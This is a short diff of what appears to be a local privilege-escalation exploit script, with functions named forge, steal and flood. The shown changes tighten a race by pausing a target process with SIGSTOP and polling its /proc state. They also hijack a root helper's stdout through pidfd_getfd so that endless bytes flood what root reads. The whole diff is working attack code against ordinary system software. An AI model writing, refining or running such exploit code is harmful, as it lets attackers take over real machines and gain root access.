@@ -87,6 +87,8 @@ def forge(box: Path, kind: str, goal: str) -> None:
                 checked = checked or (str(copy) in held and copy.stat().st_mode & 0o777 == 0o600)
                 if checked and str(copy) not in held:
                     os.kill(pid, signal.SIGSTOP)
+                    while Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] in "RSD":
+                        pass
                     break
         with contextlib.suppress(OSError):
             if kind == "deep":
@@ -139,10 +141,10 @@ def steal() -> None:
 
 def flood(command: str) -> None:
     """Writes without end into what root reads of a helper."""
-    pid = helper_of_mine(command)
-    descriptor = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
-    os.kill(pid, signal.SIGSTOP)
-    print("flooding", flush=True)
+    descriptor = -1
+    while descriptor < 0:
+        with contextlib.suppress(OSError):
+            descriptor = _libc.syscall(PIDFD_GETFD, os.pidfd_open(helper_of_mine(command)), 1, 0)
     while True:
         os.write(descriptor, b"[" * 65536)
 
